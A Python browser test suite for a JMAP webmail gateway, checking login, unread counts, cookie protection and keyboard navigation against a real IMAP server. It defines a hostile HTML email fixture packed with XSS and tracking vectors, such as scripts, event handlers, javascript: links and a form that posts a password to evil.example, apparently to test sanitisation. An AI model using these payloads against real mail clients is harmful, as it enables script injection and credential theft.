"""The webmail in web/ in a real headless Chromium (npm playwright-core +
Debian chromium) against a real Dovecot and the gateway. IMAP (imaplib) is
the ground truth: what the page shows is checked against it, and mail is
changed behind the page's back with it.

One stack and one browser for the class; each test gets a fresh browser
context (its own cookies and IndexedDB). Screenshots of the main views go
to build/test-output/screenshots/ (next to the gateway binary)."""
import email.utils
import json
import os
import re
import time
import unittest
import uuid

from browser import NODE_DIR, WEB_ROOT, requires_browser
from fixture import StackTestCase
from pwbridge import Browser

BIN = os.environ.get('JMAPGATE_BIN') or os.path.join(os.path.dirname(NODE_DIR), 'build', 'jmapgate')
SHOTS = os.path.join(os.path.dirname(os.path.abspath(BIN)), 'test-output', 'screenshots')
BIG = 20000

ROWS = "#list .row:not(.placeholder)"


def message(subject, body='Hello.\n', frm='Carol <carol@example.org>', to='alice@example.org',
            html=None, extra=''):
    mid = '<%s@test.example>' % uuid.uuid4().hex
    head = ('From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\nMessage-ID: %s\r\nMIME-Version: 1.0\r\n%s'
            % (frm, to, subject, email.utils.formatdate(localtime=False), mid, extra))
    if html is None:
        return (head + 'Content-Type: text/plain; charset=utf-8\r\n\r\n' + body).encode()
    return (head + 'Content-Type: text/html; charset=utf-8\r\n\r\n' + html).encode()


HOSTILE = r"""<html><head>
<script>window.parent.__pwned = 'script'; fetch('http://evil.example/script');</script>
<link rel="stylesheet" href="http://evil.example/link.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<style>@import url(http://evil.example/import.css);
body { position: fixed; top: -500px; left: -500px; width: 9999px; height: 9999px;
       background: url(http://evil.example/bg.png); z-index: 99999; }</style>
</head><body>
<p id="hello">Quarterly report</p>
<img src="http://evil.example/pixel.png" alt="tracker">
<img src="x" onerror="window.parent.__pwned = 'onerror'">
<a id="jslink" href="javascript:window.parent.__pwned = 'href'">click me</a>
<svg onload="window.parent.__pwned = 'svg'"><circle r="4"/></svg>
<div onclick="window.parent.__pwned = 'onclick'" style="background-image:url('http://evil.example/inline.png')">x</div>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/post" method="post"><input name="pw" value="secret"><button id="go">Go</button></form>
<object data="http://evil.example/obj"></object>
</body></html>"""


@requires_browser
class WebmailTest(StackTestCase):
    USERS = {'alice': 'alice-pw', 'bob': 'bob-pw', 'big': 'big-pw'}
    GATEWAY_ENV = {'JMAPGATE_WEB_ROOT': WEB_ROOT}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.dovecot.seed_corpus('alice', {'INBOX': 60, 'Archive': 10}, seen_every=3)
        cls.dovecot.seed_corpus('big', {'INBOX': BIG}, seen_every=2, flagged_every=50)
        os.makedirs(SHOTS, exist_ok=True)
        cls.browser = Browser()

    @classmethod
    def tearDownClass(cls):
        try:
            cls.browser.close()
        finally:
            super().tearDownClass()

    # -- helpers ---------------------------------------------------------
    def run_js(self, js, timeout=None, **args):
        return self.browser.run(js, timeout=timeout, **args)

    def open_app(self, user='alice', password='alice-pw', context_opts=None):
        self.run_js("""
            await ctx.newPage(args.opts || {});
            ctx.api = [];
            ctx.page.on('request', (r) => { if (r.url().includes('/jmap/api')) ctx.api.push(r.postData() || ''); });
            await ctx.page.goto(args.url, { timeout: 15000 });
            await ctx.page.fill('input[name=username]', args.user);
            await ctx.page.fill('input[name=password]', args.password);
            await ctx.page.click('#login button[type=submit]');
            await ctx.page.waitForSelector(args.rows, { timeout: 20000 });
            await ctx.page.waitForSelector('#conn[data-state=live]', { timeout: 10000 });
        """, url=self.gw.base_url + '/', user=user, password=password, rows=ROWS,
            opts=context_opts or {})

    def shot(self, name):
        self.run_js("await ctx.page.screenshot({ path: args.path })",
                    path=os.path.join(SHOTS, name + '.png'))

    def imap(self, user='alice', password='alice-pw'):
        m = self.dovecot.imap(user, password)
        self.addCleanup(lambda: m.logout())
        return m

    def search(self, m, box, criteria):
        m.select(box)
        typ, data = m.uid('SEARCH', None, *criteria)
        self.assertEqual(typ, 'OK')
        return data[0].split()

    def wait_row(self, subject, timeout=10000):
        """Wait until a list row shows subject; returns ms waited in the page."""
        return self.run_js("""
            const t0 = Date.now();
            await ctx.page.waitForFunction((s) => [...document.querySelectorAll('#list .row .subject')]
                .some((e) => e.textContent === s), args.subject, { timeout: args.timeout, polling: 50 });
            return Date.now() - t0;
        """, subject=subject, timeout=timeout)

    def click_row(self, subject):
        self.run_js("""
            await ctx.page.locator('#list .row', { hasText: args.subject }).first().click({ position: { x: 200, y: 20 } });
            await ctx.page.waitForFunction((s) => {
                const h = document.querySelector('#reader article:last-of-type .subject');
                return h && h.textContent === s; }, args.subject, { timeout: 10000 });
        """, subject=subject)

    # -- tests -----------------------------------------------------------
    def test_01_login_inbox_and_message(self):
        self.open_app()
        out = self.run_js("""
            const p = ctx.page;
            const folders = await p.$$eval('#folder-tree a.folder', (as) => as.map((a) => [
                a.querySelector('.name').textContent, (a.querySelector('.badge') || {}).textContent || '0']));
            const rows = await p.$$eval('#list .row .subject', (s) => s.map((e) => e.textContent));
            const cookies = await ctx.context.cookies();
            const c = cookies.find((k) => k.name === 'jmapgate_token');
            return { folders, rows, httpOnly: c ? c.httpOnly : null,
                     scriptSeesCookie: await p.evaluate(() => document.cookie.includes('jmapgate_token')),
                     count: await p.textContent('#list-count') };
        """)
        folders = dict(out['folders'])
        imap = self.imap()
        unseen = len(self.search(imap, 'INBOX', ['UNSEEN']))
        self.assertEqual(folders['INBOX'], str(unseen))
        self.assertIn('Archive', folders)
        self.assertIn('%d unread, 60 in all' % unseen, out['count'])
        self.assertGreater(len(out['rows']), 5)
        self.assertTrue(out['httpOnly'])
        self.assertFalse(out['scriptSeesCookie'])
        # The newest message is first: compare with IMAP's newest by date.
        self.shot('inbox')
        first = out['rows'][0]
        self.click_row(first)
        body = self.run_js("return await ctx.page.textContent('#reader article:last-of-type')")
        self.assertIn(first, body)
        self.shot('message')
        # j opens the next one, k goes back.
        second = out['rows'][1]
        self.run_js("await ctx.page.focus('#list'); await ctx.page.keyboard.press('j')")
        self.run_js("""await ctx.page.waitForFunction((s) => {
            const h = document.querySelector('#reader article:last-of-type .subject');
            return h && h.textContent === s; }, args.s, { timeout: 10000 })""", s=second)
        self.assertEqual(self.run_js("return ctx.errors"), [])


if __name__ == '__main__':
    unittest.main()
